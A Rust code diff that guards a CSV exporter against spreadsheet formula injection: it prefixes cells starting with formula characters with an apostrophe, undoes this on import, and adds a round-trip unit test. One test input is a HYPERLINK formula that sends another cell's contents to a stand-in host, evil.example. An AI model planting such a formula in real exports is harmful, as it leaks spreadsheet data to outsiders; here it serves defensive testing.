@@ -9,11 +9,50 @@ use crate::domain::{
 
 const BOM: &str = "\u{FEFF}";
 
-fn write(rows: Vec<Vec<String>>) -> Vec<u8> {
+/// A cell a spreadsheet would run as a formula (`=HYPERLINK(…)` as a
+/// display name) starts with one of these (OWASP, "CSV injection").
+fn is_formula_start(c: char) -> bool {
+    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
+}
+
+/// True for a cell that [`neutralise`] quotes: a formula start, after any
+/// apostrophes already there (so that the quoting can be undone exactly).
+fn needs_quote(cell: &str) -> bool {
+    cell.trim_start_matches('\'')
+        .chars()
+        .next()
+        .is_some_and(is_formula_start)
+}
+
+/// The cell as a spreadsheet shows it as text: a leading apostrophe before a
+/// formula start, as OWASP recommends.
+pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    if needs_quote(cell) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// Undoes [`neutralise`], so that an exported file imports back to the same
+/// names.
+pub fn restore(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_quote(rest) => rest,
+        _ => cell,
+    }
+}
+
+/// A CSV file of `rows`, every cell neutralised.
+pub fn write<R, C>(rows: R) -> Vec<u8>
+where
+    R: IntoIterator<Item = Vec<C>>,
+    C: AsRef<str>,
+{
     let mut writer = csv::Writer::from_writer(BOM.as_bytes().to_vec());
     for row in rows {
         writer
-            .write_record(row)
+            .write_record(row.iter().map(|c| neutralise(c.as_ref()).into_owned()))
             .expect("writing to memory cannot fail");
     }
     writer.into_inner().expect("writing to memory cannot fail")
@@ -93,4 +132,31 @@ fn organisation_row(o: &Organisation) -> Vec<String> {
             .collect::<Vec<_>>()
             .join(" "),
     ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_neutralised_and_restored_exactly() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?d=\"&F2,\"Amin\")",
+            "+66 2 123",
+            "-1",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "'=x",
+            "''-x",
+        ] {
+            let safe = neutralise(cell);
+            assert!(safe.starts_with('\''), "{cell:?} -> {safe:?}");
+            assert_eq!(restore(&safe), cell);
+        }
+        for cell in ["Amin", "'quoted'", "O'Brien", "", "a=b", "'"] {
+            assert_eq!(neutralise(cell), cell);
+            assert_eq!(restore(cell), cell);
+        }
+    }
 }
